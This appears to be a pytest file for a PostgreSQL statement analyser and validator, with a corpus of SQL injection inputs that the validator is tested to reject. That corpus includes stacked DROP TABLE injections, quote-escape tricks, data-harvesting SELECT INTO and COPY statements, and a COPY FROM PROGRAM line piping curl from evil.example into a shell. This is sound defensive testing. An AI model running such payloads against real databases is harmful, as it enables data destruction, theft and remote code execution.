"""Tests for omnibase_infra.sql's statement analysis, the validator (with an injection corpus)
and identifier quoting."""

from __future__ import annotations

import gc
from uuid import uuid4

import pytest

from omnibase_infra.enums import EnumTransport
from omnibase_infra.errors import InfraValidationError
from omnibase_infra.sql import (
    MAX_IDENTIFIER_BYTES,
    MODIFYING_ACCESS,
    READ_ONLY,
    READ_WRITE,
    EnumSqlAccess,
    describe_statements,
    is_data_modifying,
    quote_identifier,
    quote_qualified_name,
    split_statements,
    statement_kind,
    tokenize,
    validate_statement,
)
from omnibase_infra.sql.analysis import CACHE_MAX_TEXT_LENGTH, _describe_cached
from omnibase_infra.sql.lexer import GC_PAUSE_LENGTH, gc_paused

A = EnumSqlAccess
ANY = frozenset(EnumSqlAccess)

# --- split_statements ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ("SELECT 1", ["SELECT 1"]),
        ("SELECT 1; SELECT 2;", ["SELECT 1", "SELECT 2"]),
        ("  SELECT 1 ;\n\n;; SELECT 2  ", ["SELECT 1", "SELECT 2"]),
        ("SELECT ';'; SELECT \";\"", ["SELECT ';'", 'SELECT ";"']),
        ("SELECT $$;$$; SELECT $t$;$t$", ["SELECT $$;$$", "SELECT $t$;$t$"]),
        ("SELECT 1 /* ; /* ; */ ; */; SELECT 2", ["SELECT 1 /* ; /* ; */ ; */", "SELECT 2"]),
        ("SELECT 1 -- ;\n; SELECT 2", ["SELECT 1 -- ;", "SELECT 2"]),
        ("CREATE RULE r AS ON INSERT TO t DO ALSO (DELETE FROM a; DELETE FROM b)", None),
        ("SELECT 1); SELECT 2", ["SELECT 1)", "SELECT 2"]),
        ("/* only */ -- comments", []),
        ("", []),
        ("/* lead */ SELECT 1; -- trail", ["/* lead */ SELECT 1"]),
        ("SELECT 'a;", ["SELECT 'a;"]),
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END;"
            " SELECT 3",
            [
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END",
                "SELECT 3",
            ],
        ),
        (
            "create or replace procedure p() begin atomic select case when x then 1 end; end;"
            " select 2",
            [
                "create or replace procedure p() begin atomic select case when x then 1 end; end",
                "select 2",
            ],
        ),
        (  # a function defined inside a body has a body of its own
            "CREATE FUNCTION f() BEGIN ATOMIC CREATE FUNCTION g() BEGIN ATOMIC SELECT 1; END;"
            " END; SELECT 2",
            [
                "CREATE FUNCTION f() BEGIN ATOMIC CREATE FUNCTION g() BEGIN ATOMIC SELECT 1; END;"
                " END",
                "SELECT 2",
            ],
        ),
        (  # "begin atomic" elsewhere is a column and its alias: no body hides what follows
            "SELECT begin atomic FROM t; DROP TABLE x",
            ["SELECT begin atomic FROM t", "DROP TABLE x"],
        ),
        (
            "CREATE FUNCTION f() BEGIN ATOMIC SELECT begin atomic FROM t; END; DROP TABLE x",
            ["CREATE FUNCTION f() BEGIN ATOMIC SELECT begin atomic FROM t; END", "DROP TABLE x"],
        ),
        (  # one body per CREATE; END closes it
            "CREATE FUNCTION f() BEGIN ATOMIC END BEGIN ATOMIC; DROP TABLE x",
            ["CREATE FUNCTION f() BEGIN ATOMIC END BEGIN ATOMIC", "DROP TABLE x"],
        ),
        (
            "CREATE TABLE t (a int) BEGIN ATOMIC; SELECT 1",
            ["CREATE TABLE t (a int) BEGIN ATOMIC", "SELECT 1"],
        ),
        (
            "CREATE FUNCTION f(a int DEFAULT (BEGIN ATOMIC; END)); SELECT 1",
            ["CREATE FUNCTION f(a int DEFAULT (BEGIN ATOMIC; END))", "SELECT 1"],
        ),
        (
            "CREATE FUNCTION f() BEGIN ATOMIC END; END",
            ["CREATE FUNCTION f() BEGIN ATOMIC END", "END"],
        ),
        ("CREATE FUNCTION ATOMIC; SELECT 1", ["CREATE FUNCTION ATOMIC", "SELECT 1"]),
    ],
)
def test_split_statements(sql: str, expected: list[str] | None) -> None:
    assert split_statements(sql) == (expected if expected is not None else [sql])


# --- kinds and access ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "kind", "access"),
    [
        ("SELECT 1", "SELECT", {A.READ}),
        ("select * from t", "SELECT", {A.READ}),
        ("(SELECT 1) UNION (SELECT 2)", "SELECT", {A.READ}),
        ("VALUES (1)", "VALUES", {A.READ}),
        ("TABLE t", "TABLE", {A.READ}),
        ("SHOW work_mem", "SHOW", {A.READ}),
        ("WITH a AS (SELECT 1) SELECT * FROM a", "SELECT", {A.READ}),
        ("WITH a AS (SELECT ((1))) SELECT * FROM a", "SELECT", {A.READ}),
        ("WITH RECURSIVE a(n) AS NOT MATERIALIZED (SELECT 1) TABLE a", "TABLE", {A.READ}),
        (
            "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) "
            "SEARCH DEPTH FIRST BY n SET ord CYCLE n SET is_cycle USING path SELECT * FROM t",
            "SELECT",
            {A.READ},
        ),
        ("WITH x AS (SELECT 1) (SELECT * FROM x)", "SELECT", {A.READ}),
        ("WITH a AS (SELECT 1) INSERT INTO t SELECT * FROM a", "INSERT", {A.WRITE}),
        ("WITH a AS (DELETE FROM t RETURNING *) SELECT * FROM a", "SELECT", {A.READ, A.WRITE}),
        ("WITH broken SELECT 1", "WITH", {A.UNKNOWN}),
        ("WITH a AS SELECT 1", "WITH", {A.UNKNOWN}),
        ("WITH a (SELECT 1) SELECT 2", "WITH", {A.UNKNOWN}),
        ("WITH a AS (SELECT 1), SELECT 2", "WITH", {A.UNKNOWN}),
        ("WITH a AS (SELECT 1", "", {A.UNKNOWN}),
        ("SELECT * INTO t2 FROM t", "SELECT", {A.READ, A.DDL}),
        ("SELECT * FROM t FOR UPDATE", "SELECT", {A.READ, A.WRITE}),
        ("SELECT * FROM t FOR NO KEY UPDATE", "SELECT", {A.READ, A.WRITE}),
        ("SELECT substring(x FROM 1 FOR 2) FROM t", "SELECT", {A.READ}),
        ("INSERT INTO t VALUES (1)", "INSERT", {A.WRITE}),
        ("UPDATE t SET a = 1", "UPDATE", {A.WRITE}),
        ("DELETE FROM t", "DELETE", {A.WRITE}),
        ("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", "MERGE", {A.WRITE}),
        ("TRUNCATE t", "TRUNCATE", {A.WRITE}),
        ("LOCK TABLE t", "LOCK", {A.WRITE}),
        ("REFRESH MATERIALIZED VIEW v", "REFRESH", {A.WRITE}),
        ("COPY t FROM STDIN", "COPY", {A.WRITE}),
        ("COPY t FROM '/etc/passwd'", "COPY", {A.WRITE, A.ADMIN}),
        ("COPY t TO STDOUT", "COPY", {A.READ}),
        ("COPY (SELECT 1) TO PROGRAM 'x'", "COPY", {A.ADMIN}),
        ("COPY (DELETE FROM t RETURNING *) TO STDOUT", "COPY", {A.READ, A.WRITE}),
        ("COPY t", "COPY", {A.UNKNOWN}),
        ("CREATE TABLE t (a int)", "CREATE TABLE", {A.DDL}),
        ("CREATE OR REPLACE TEMP RECURSIVE VIEW v AS SELECT 1", "CREATE VIEW", {A.DDL}),
        ("CREATE UNIQUE INDEX i ON t (a)", "CREATE INDEX", {A.DDL}),
        ("CREATE MATERIALIZED VIEW v AS SELECT 1", "CREATE MATERIALIZED VIEW", {A.DDL}),
        ("CREATE FOREIGN DATA WRAPPER w", "CREATE FOREIGN DATA WRAPPER", {A.DDL}),
        (
            "CREATE TEXT SEARCH CONFIGURATION c (COPY = english)",
            "CREATE TEXT SEARCH CONFIGURATION",
            {A.DDL},
        ),
        (
            "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO r",
            "ALTER DEFAULT PRIVILEGES",
            {A.DDL},
        ),
        ("DROP TABLE t", "DROP TABLE", {A.DDL}),
        ('CREATE "weird"', "CREATE", {A.DDL}),
        ("CREATE", "CREATE", {A.DDL}),
        ("COMMENT ON TABLE t IS 'x'", "COMMENT", {A.DDL}),
        ("GRANT SELECT ON t TO r", "GRANT", {A.DDL}),
        ("ALTER SYSTEM SET work_mem = '1GB'", "ALTER SYSTEM", {A.ADMIN}),
        ("CALL p()", "CALL", {A.ROUTINE}),
        ("DO $$ BEGIN END $$", "DO", {A.ROUTINE}),
        ("EXECUTE stmt(1)", "EXECUTE", {A.ROUTINE}),
        ("BEGIN", "BEGIN", {A.TRANSACTION}),
        ("START TRANSACTION READ ONLY", "START", {A.TRANSACTION}),
        ("END", "END", {A.TRANSACTION}),
        ("PREPARE TRANSACTION 'x'", "PREPARE TRANSACTION", {A.TRANSACTION}),
        ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "SET", {A.TRANSACTION}),
        ("SET CONSTRAINTS ALL DEFERRED", "SET", {A.TRANSACTION}),
        ("SET search_path = app", "SET", {A.SESSION}),
        ("PREPARE q AS DELETE FROM t", "PREPARE", {A.SESSION}),
        ("DECLARE c CURSOR FOR SELECT 1", "DECLARE", {A.SESSION}),
        ("NOTIFY ch", "NOTIFY", {A.SESSION}),
        ("VACUUM t", "VACUUM", {A.ADMIN}),
        ("ANALYZE t", "ANALYZE", {A.ADMIN}),
        ("EXPLAIN SELECT 1", "EXPLAIN", {A.READ}),
        ("EXPLAIN ANALYZE VERBOSE SELECT 1", "EXPLAIN", {A.READ}),
        ("EXPLAIN (ANALYZE) DELETE FROM t", "EXPLAIN", {A.WRITE}),
        ("EXPLAIN CREATE TABLE t AS SELECT 1", "EXPLAIN", {A.DDL}),
        ("EXPLAIN (SELECT 1)", "EXPLAIN", {A.READ}),
        ("EXPLAIN (VALUES (1))", "EXPLAIN", {A.READ}),
        ("EXPLAIN (values 1) SELECT 1", "EXPLAIN", {A.READ}),
        ("EXPLAIN (WITH d AS (DELETE FROM t RETURNING 1) SELECT 1)", "EXPLAIN", {A.READ, A.WRITE}),
        ("EXPLAIN EXPLAIN DELETE FROM t", "EXPLAIN", {A.WRITE}),
        (
            "WITH a AS (WITH b AS (SELECT 1) DELETE FROM t RETURNING 1) SELECT 1",
            "SELECT",
            {A.READ, A.WRITE},
        ),
        (
            "COPY (WITH b AS (SELECT 1) UPDATE t SET a = 1 RETURNING a) TO STDOUT",
            "COPY",
            {A.READ, A.WRITE},
        ),
        (
            "WITH RECURSIVE r AS (SELECT 1) SEARCH BREADTH FIRST BY a, b SET o "
            "CYCLE a, b SET c TO 'y'::text DEFAULT 'n' USING p DELETE FROM t",
            "DELETE",
            {A.WRITE},
        ),
        (
            "WITH x AS (WITH RECURSIVE r AS (SELECT 1) SEARCH DEPTH FIRST BY set SET o "
            "INSERT INTO t VALUES (1) RETURNING 1) SELECT 1",
            "SELECT",
            {A.READ, A.WRITE},
        ),
        (
            'WITH x AS (WITH RECURSIVE r AS (SELECT 1) CYCLE "using" SET c USING "using" '
            "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE RETURNING 1) SELECT 1",
            "SELECT",
            {A.READ, A.WRITE},
        ),
        ("WITH r AS (SELECT 1) SEARCH DEPTH BY a SET o SELECT 1", "WITH", {A.UNKNOWN}),
        ("WITH r AS (SELECT 1) SEARCH DEPTH FIRST BY a SELECT 1", "WITH", {A.UNKNOWN}),
        ("WITH r AS (SELECT 1) SEARCH DEPTH FIRST BY SET o SELECT 1", "WITH", {A.UNKNOWN}),
        ("WITH r AS (SELECT 1) CYCLE a USING p SELECT 1", "WITH", {A.UNKNOWN}),
        ("WITH r AS (SELECT 1) CYCLE 1 SET c USING p SELECT 1", "WITH", {A.UNKNOWN}),
        ("WITH r AS (SELECT 1) CYCLE a SET c TO 1 DEFAULT 0 SELECT 1", "WITH", {A.UNKNOWN}),
        ("WITH r AS (SELECT 1) CYCLE a SET c TO 1 WITH", "WITH", {A.UNKNOWN}),
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1;"
            " END",
            "CREATE FUNCTION",
            {A.DDL},
        ),
        ("FROBNICATE t", "FROBNICATE", {A.UNKNOWN}),
        ("'x'", "", {A.UNKNOWN}),
        ("(((", "", {A.UNKNOWN}),
    ],
)
def test_kind_and_access(sql: str, kind: str, access: set[EnumSqlAccess]) -> None:
    (info,) = describe_statements(sql)
    assert info.kind == kind
    assert info.access == access
    assert info.is_data_modifying == bool(access & MODIFYING_ACCESS)
    assert statement_kind(sql) == kind
    assert is_data_modifying(sql) == info.is_data_modifying


def test_reasons_name_what_was_found() -> None:
    (info,) = describe_statements(
        "WITH d AS (UPDATE t SET a = 1 RETURNING *) SELECT * INTO x FROM d FOR SHARE"
    )
    assert [(n.access, n.reason) for n in info.needs] == [
        (A.READ, "SELECT"),
        (A.WRITE, "data-modifying CTE (UPDATE)"),
        (A.DDL, "SELECT ... INTO (creates a table)"),
    ]
    (info,) = describe_statements("SELECT * FROM (INSERT INTO t VALUES (1) RETURNING *) s")
    assert info.needs[1].reason == "data-modifying sub-statement (INSERT)"


def test_empty_text_has_no_statement() -> None:
    assert describe_statements("  -- nothing\n") == ()
    assert statement_kind("") == ""
    assert not is_data_modifying("")
    assert is_data_modifying("SELECT 1; DELETE FROM t")


# --- tables ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "tables"),
    [
        (
            'SELECT * FROM a, b.c AS x, "D" d JOIN e ON e.id = d.id, f',
            ("a", "b.c", '"D"', "e", "f"),
        ),
        ("SELECT * FROM ONLY a * LEFT JOIN LATERAL (SELECT 1 FROM b) s ON true", ("a", "b")),
        ("SELECT * FROM generate_series(1, 3) g, unnest($1) u", ()),
        ("SELECT * FROM ROWS FROM (f(1)) AS r", ()),
        ("SELECT extract(year FROM d), trim(BOTH 'x' FROM s) FROM t", ("t",)),
        ("SELECT a IS DISTINCT FROM b, c IS NOT DISTINCT FROM d FROM t", ("t",)),
        ("SELECT DISTINCT FROM t", ("t",)),
        (
            "SELECT * FROM a WHERE x IN (SELECT y FROM b) AND EXISTS (SELECT 1 FROM c)",
            ("a", "b", "c"),
        ),
        ("SELECT * FROM a ORDER BY x, y", ("a",)),
        ("SELECT * FROM unnest($1) WITH ORDINALITY AS u(x, n), t", ("t",)),
        ("WITH broken SELECT * FROM t", ("t",)),
        ("SELECT view, table_name FROM t", ("t",)),
        ('WITH r AS (SELECT * FROM base) SELECT * FROM r, "R"', ("base", '"R"')),
        ('WITH "Q" AS (SELECT 1) SELECT * FROM "Q", q', ("q",)),
        ("SELECT * FROM (WITH w AS (SELECT 1) SELECT * FROM w) s", ()),
        ("INSERT INTO s.t (a) SELECT a FROM u", ("s.t", "u")),
        ("INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 1, c = 2", ("t",)),
        ("UPDATE ONLY t SET a = 1, b = 2 FROM u, v WHERE t.x = u.x", ("t", "u", "v")),
        ("UPDATE t SET a = (SELECT max(x) FROM m)", ("t", "m")),
        ("WITH x AS (SELECT 1) UPDATE t SET a = 1", ("t",)),
        ("DELETE FROM t USING u, v WHERE t.id = u.id", ("t", "u", "v")),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1, b = 2",
            ("t", "s"),
        ),
        ("SELECT * INTO TEMP TABLE newt FROM old", ("newt", "old")),
        ("SELECT * FROM t FOR UPDATE OF t", ("t",)),
        ("TABLE a UNION TABLE b", ("a", "b")),
        ("CREATE TABLE IF NOT EXISTS a.b (x int REFERENCES c)", ("a.b",)),
        ("CREATE TABLE t2 AS SELECT * FROM t1", ("t2", "t1")),
        ("CREATE OR REPLACE VIEW v AS SELECT * FROM t", ("v", "t")),
        ("DROP MATERIALIZED VIEW IF EXISTS m1, m2", ("m1", "m2")),
        ("REFRESH MATERIALIZED VIEW CONCURRENTLY m", ("m",)),
        ("CREATE INDEX CONCURRENTLY i ON ONLY t USING btree (a)", ("t",)),
        ("CREATE TRIGGER tr BEFORE UPDATE ON t FOR EACH ROW EXECUTE FUNCTION f()", ("t",)),
        ("DROP TABLE a, b CASCADE", ("a", "b")),
        ("ALTER TABLE IF EXISTS ONLY t RENAME TO u", ("t",)),
        ("TRUNCATE a, ONLY b", ("a", "b")),
        ("TRUNCATE TABLE a", ("a",)),
        ("LOCK TABLE a, b IN EXCLUSIVE MODE", ("a", "b")),
        ("COPY s.t (a, b) FROM STDIN", ("s.t",)),
        ("COPY (SELECT * FROM t) TO STDOUT", ("t",)),
        ("EXPLAIN ANALYZE UPDATE t SET a = 1", ("t",)),
        ("CREATE FUNCTION f() RETURNS TABLE (a int) AS $$ SELECT 1 FROM x $$ LANGUAGE sql", ()),
        ("COMMENT ON TABLE t IS 'x'", ("t",)),
        ("GRANT SELECT ON TABLE t TO r", ()),
        ("REVOKE SELECT ON t FROM r", ()),
        ("FETCH NEXT FROM c", ()),
        ("SELECT * FROM a JOIN a ON true", ("a",)),
        ("SELECT * FROM a.", ("a",)),
        ("SELECT * FROM", ()),
    ],
)
def test_tables(sql: str, tables: tuple[str, ...]) -> None:
    (info,) = describe_statements(sql)
    assert info.tables == tables


# --- caching ---------------------------------------------------------------------------------


def test_descriptions_are_cached_for_short_texts_only() -> None:
    _describe_cached.cache_clear()
    sql = "SELECT * FROM t WHERE id = $1"
    first = describe_statements(sql)
    assert describe_statements(sql) is first
    assert _describe_cached.cache_info().hits == 1
    long_sql = "SELECT 1" + " " * CACHE_MAX_TEXT_LENGTH
    assert describe_statements(long_sql) == describe_statements(long_sql)
    assert describe_statements(long_sql) is not describe_statements(long_sql)
    assert _describe_cached.cache_info().currsize == 1


# --- validate_statement: the injection corpus -------------------------------------------------

REJECTED = [
    # stacked statements
    (
        "SELECT * FROM users WHERE name = 'x'; DROP TABLE users; --'",
        READ_WRITE,
        "multiple_statements",
        "2 statements (SELECT; DROP TABLE); only one allowed",
    ),
    ("SELECT 1;DROP TABLE users", READ_WRITE, "multiple_statements", "2 statements"),
    ("SELECT 1\n;\nDROP TABLE users", READ_WRITE, "multiple_statements", "2 statements"),
    ("SELECT\t1;\tDROP\tTABLE\tusers", READ_WRITE, "multiple_statements", "2 statements"),
    ("select 1; delete from users", READ_WRITE, "multiple_statements", "(SELECT; DELETE)"),
    ("SELECT 1 FROM t; DEL/**/ETE FROM users", READ_WRITE, "multiple_statements", "(SELECT; DEL)"),
    ("SELECT (1); DELETE FROM users", READ_WRITE, "multiple_statements", "2 statements"),
    ("VALUES (1); INSERT INTO users VALUES (2)", READ_WRITE, "multiple_statements", "2 statements"),
    ("SELECT 1 */ ; DROP TABLE t", READ_WRITE, "multiple_statements", "2 statements"),
    ("SELECT E'\\\\'; DROP TABLE users; --'", READ_WRITE, "multiple_statements", "2 statements"),
    ("SELECT E'\\''; DROP TABLE users", READ_WRITE, "multiple_statements", "2 statements"),
    ("SELECT $1$; DROP TABLE users; $1$", READ_WRITE, "multiple_statements", "3 statements"),
    ("SELECT 1; SELECT 2", READ_WRITE, "multiple_statements", "2 statements (SELECT; SELECT)"),
    ("BEGIN; DELETE FROM t; COMMIT", READ_WRITE, "multiple_statements", "(BEGIN; DELETE; COMMIT)"),
    ("SELECT 1; 'x'", READ_WRITE, "multiple_statements", "(SELECT; ?)"),
    # text the server would read differently, or cannot read
    (
        "SELECT 'x\\' , '; DROP TABLE users; --'",
        READ_WRITE,
        "malformed",
        "standard_conforming_strings",
    ),
    (
        "SELECT * FROM users WHERE name = 'x\\' OR 1=1 --'",
        READ_WRITE,
        "malformed",
        "backslash before a quote",
    ),
    ("SELECT N'abc\\'", READ_WRITE, "malformed", "backslash before a quote"),
    ("SELECT 1); DROP TABLE users; SELECT (1", READ_WRITE, "malformed", "unbalanced parentheses"),
    ("SELECT (1", READ_ONLY, "malformed", "unbalanced parentheses"),
    ("SELECT 'open", READ_ONLY, "malformed", "unterminated quoted string"),
    ("SELECT E'open\\'", READ_ONLY, "malformed", "unterminated quoted string"),
    ('SELECT "open', READ_ONLY, "malformed", "unterminated quoted identifier"),
    ('SELECT U&"open', READ_ONLY, "malformed", "unterminated quoted identifier"),
    ("SELECT 1 /* open", READ_ONLY, "malformed", "unterminated /* comment"),
    ("SELECT 1 /* /* */ ; DROP TABLE t", READ_ONLY, "malformed", "unterminated /* comment"),
    ("SELECT $$ open", READ_ONLY, "malformed", "unterminated dollar-quoted string"),
    ("SELECT 'a\x00b'", READ_ONLY, "malformed", "NUL character"),
    ("", READ_ONLY, "empty", "empty statement"),
    ("  -- nothing here\n", READ_ONLY, "empty", "empty statement"),
    (";;;", READ_ONLY, "empty", "empty statement"),
    # data-modifying statements in a read-only fetch
    (
        "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
        READ_ONLY,
        "access",
        "data-modifying CTE (DELETE) needs write access; 'fetch' allows read",
    ),
    (
        "WITH a AS (SELECT 1), b AS MATERIALIZED "
        "(UPDATE accounts SET balance = 0 RETURNING id) SELECT * FROM a, b",
        READ_ONLY,
        "access",
        "data-modifying CTE (UPDATE)",
    ),
    (
        "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT 1 FROM r), "
        "w AS (INSERT INTO spam SELECT * FROM r LIMIT 10 RETURNING 1) SELECT 1",
        READ_ONLY,
        "access",
        "data-modifying CTE (INSERT)",
    ),
    (
        "WITH m AS (MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE RETURNING *) SELECT 1",
        READ_ONLY,
        "access",
        "data-modifying CTE (MERGE)",
    ),
    (
        "SELECT * INTO stolen_copy FROM users",
        READ_ONLY,
        "access",
        "SELECT ... INTO (creates a table) needs ddl access",
    ),
    (
        "SELECT email INTO TEMP TABLE harvested FROM users WHERE active",
        READ_WRITE,
        "access",
        "SELECT ... INTO",
    ),
    ('SELECT*INTO"harvest"FROM"users"', READ_ONLY, "access", "SELECT ... INTO"),
    (
        "SELECT * FROM accounts WHERE id = 1 FOR UPDATE",
        READ_ONLY,
        "access",
        "row-locking clause FOR UPDATE needs write access",
    ),
    (
        "SELECT * FROM (SELECT * FROM accounts FOR SHARE) s",
        READ_ONLY,
        "access",
        "row-locking clause FOR SHARE",
    ),
    ("SELECT * FROM t FOR KEY SHARE", READ_ONLY, "access", "FOR KEY SHARE"),
    (
        "EXPLAIN ANALYZE DELETE FROM users",
        READ_ONLY,
        "access",
        "EXPLAIN of DELETE needs write access",
    ),
    (
        "EXPLAIN (ANALYZE true, COSTS off) INSERT INTO users (name) VALUES ('x')",
        READ_ONLY,
        "access",
        "EXPLAIN of INSERT",
    ),
    ("DELETE FROM users", READ_ONLY, "access", "DELETE needs write access"),
    ("TRUNCATE users", READ_ONLY, "access", "TRUNCATE needs write access"),
    (
        "MERGE INTO accounts a USING (SELECT 1 AS id) s ON a.id = s.id WHEN MATCHED THEN DELETE",
        READ_ONLY,
        "access",
        "MERGE needs write access",
    ),
    ("COPY users FROM STDIN", READ_ONLY, "access", "COPY FROM STDIN needs write access"),
    (
        "COPY users FROM PROGRAM 'curl http://evil.example/x | sh'",
        READ_WRITE,
        "access",
        "COPY FROM a server file or program needs admin access",
    ),
    (
        "COPY (SELECT * FROM users) TO '/tmp/stolen.csv'",
        READ_ONLY,
        "access",
        "COPY TO a server file or program needs admin access",
    ),
    (
        "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
        READ_WRITE,
        "access",
        "DO runs unknown server code needs routine access",
    ),
    ("CALL wipe_everything()", READ_WRITE, "access", "CALL runs unknown server code"),
    ("EXECUTE p(1)", READ_WRITE, "access", "EXECUTE runs unknown server code"),
    ("SET ROLE postgres", READ_WRITE, "access", "SET needs session access"),
    ("PREPARE p AS DELETE FROM users", READ_ONLY, "access", "PREPARE needs session access"),
    (
        "DECLARE c CURSOR FOR SELECT * FROM users FOR UPDATE",
        READ_ONLY,
        "access",
        "DECLARE needs session access",
    ),
    ("COMMIT", READ_WRITE, "access", "COMMIT needs transaction access"),
    (
        "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO attacker",
        READ_WRITE,
        "access",
        "GRANT needs ddl access",
    ),
    (
        "CREATE FUNCTION f() RETURNS void AS 'DELETE FROM users' LANGUAGE sql",
        READ_WRITE,
        "access",
        "CREATE FUNCTION needs ddl access",
    ),
    (
        "ALTER SYSTEM SET log_statement = 'none'",
        {A.READ, A.WRITE, A.DDL},
        "access",
        "ALTER SYSTEM needs admin access",
    ),
    ("VACUUM FULL users", READ_WRITE, "access", "VACUUM needs admin access"),
    (
        "FROBNICATE users",
        READ_WRITE,
        "access",
        "unrecognized statement FROBNICATE needs unknown access",
    ),
    ("SELECT\u00a0* FROM users", READ_ONLY, "access", "unrecognized statement"),
    ("SELECT 1", set(), "access", "'fetch' allows nothing"),
    # nested data-modifying statements, however they are wrapped
    (
        "WITH x AS (WITH y AS (SELECT 1) DELETE FROM users RETURNING *) SELECT * FROM x",
        READ_ONLY,
        "access",
        "data-modifying CTE (DELETE) needs write access",
    ),
    (
        "COPY (WITH y AS (SELECT 1) DELETE FROM users RETURNING *) TO STDOUT",
        READ_ONLY,
        "access",
        "data-modifying CTE (DELETE) needs write access",
    ),
    (
        "COPY (DELETE FROM users RETURNING *) TO STDOUT",
        READ_ONLY,
        "access",
        "data-modifying sub-statement (DELETE)",
    ),
    (
        "WITH x AS (WITH RECURSIVE r (n) AS (SELECT 1) SEARCH DEPTH FIRST BY n SET o "
        "DELETE FROM users RETURNING 1) SELECT 1",
        READ_ONLY,
        "access",
        "data-modifying CTE (DELETE)",
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; DROP TABLE users",
        ANY,
        "malformed",
        "BEGIN ATOMIC body without its END",
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END; DROP TABLE users",
        ANY,
        "multiple_statements",
        "2 statements (CREATE FUNCTION; DROP TABLE)",
    ),
    (
        "SELECT 1; SELECT 2; SELECT 3; SELECT 4; SELECT 5; SELECT 6",
        ANY,
        "multiple_statements",
        "6 statements (SELECT; SELECT; SELECT; SELECT; SELECT; ...); only one allowed",
    ),
    ("SELECT set_config('transaction_read_only', 'off', false)", READ_ONLY, "access", "set_config"),
]

ACCEPTED = [
    ("SELECT * FROM users WHERE id = $1", READ_ONLY),
    ("SELECT 1;", READ_ONLY),
    ("SELECT 1 ; -- done", READ_ONLY),
    ("SELECT 1 /* /* */ ; DROP TABLE t_nested; */", READ_ONLY),
    ("SELECT $$;DROP TABLE users;$$", READ_ONLY),
    ("SELECT $a$ $b$ ; DROP TABLE users; $b$ $a$", READ_ONLY),
    ('SELECT * FROM "users""; DROP TABLE x; --"', READ_ONLY),
    ('SELECT * FROM U&"users\\0022; DROP TABLE x; --"', READ_ONLY),
    ("SELECT 1 -- comment ; DROP TABLE users", READ_ONLY),
    ("SELECT 'a'\n';DROP TABLE users;'", READ_ONLY),
    ("SELECT E'it\\'s'", READ_ONLY),
    ("SELECT regexp_replace(x, '\\d+', '') FROM t", READ_ONLY),
    ("SELECT 'ends with two backslashes \\\\'", READ_ONLY),
    ("WITH update AS (SELECT 1) SELECT * FROM update", READ_ONLY),
    ("WITH x AS (SELECT 1) (SELECT * FROM x)", READ_ONLY),
    ("SELECT a IS DISTINCT FROM b FROM t", READ_ONLY),
    ("TABLE users", READ_ONLY),
    ("VALUES (1, 'a')", READ_ONLY),
    ("EXPLAIN SELECT * FROM users", READ_ONLY),
    ("COPY users TO STDOUT", READ_ONLY),
    ("SELECT pg_sleep(1)", READ_ONLY),
    ("INSERT INTO t (a) VALUES ($1) RETURNING id", READ_WRITE),
    ("UPDATE t SET a = $1 WHERE id = $2", READ_WRITE),
    ("SELECT * FROM jobs FOR UPDATE SKIP LOCKED", READ_WRITE),
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", READ_WRITE),
    ("CREATE TABLE t (a int)", {A.DDL}),
    ("SET search_path = app", ["session"]),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END", {A.DDL}),
    ("WITH x AS (WITH y AS (SELECT 1) SELECT * FROM y) SELECT * FROM x", READ_ONLY),
    ("COPY (WITH y AS (SELECT 1) SELECT * FROM y) TO STDOUT", READ_ONLY),
]


@pytest.mark.parametrize(("sql", "allow", "rule", "message"), REJECTED)
def test_injection_corpus_is_rejected_with_a_reason(
    sql: str, allow: set[EnumSqlAccess], rule: str, message: str
) -> None:
    correlation_id = uuid4()
    with pytest.raises(InfraValidationError) as caught:
        validate_statement(
            sql, allow=allow, operation="fetch", target="db:5432", correlation_id=correlation_id
        )
    err = caught.value
    assert message in err.message
    assert err.details["rule"] == rule
    assert err.transport is EnumTransport.POSTGRES
    assert err.operation == "fetch"
    assert err.target == "db:5432"
    assert err.correlation_id == correlation_id
    assert not err.retryable


@pytest.mark.parametrize(("sql", "allow"), ACCEPTED)
def test_safe_statements_are_accepted(sql: str, allow: set[EnumSqlAccess]) -> None:
    info = validate_statement(sql, allow=allow, operation="fetch")
    assert info.access <= {A(a) for a in allow}


def test_rejections_show_the_sanitized_statement_never_its_literals() -> None:
    secret = "hunter2-very-secret"
    sql = f"SELECT * FROM t WHERE pw = '{secret}'; DROP TABLE t"  # noqa: S608 - the input
    with pytest.raises(InfraValidationError) as caught:
        validate_statement(sql, allow=READ_ONLY, operation="q")
    err = caught.value
    assert err.details["statement"] == "SELECT * FROM t WHERE pw = ?; DROP TABLE t"
    for shown in (str(err), repr(err), err.to_json()):
        assert secret not in shown
    assert err.details["statement_count"] == 2


def test_rejection_details_name_the_access() -> None:
    with pytest.raises(InfraValidationError) as caught:
        validate_statement("DELETE FROM t", allow=READ_ONLY, operation="fetch")
    assert caught.value.details["access"] == "write"
    assert caught.value.details["statement_kind"] == "DELETE"


def test_long_statements_are_shortened_in_rejections() -> None:
    columns = ", ".join(f"c{i}" for i in range(200))
    sql = f"SELECT {columns} FROM t FOR UPDATE"  # noqa: S608 - the input
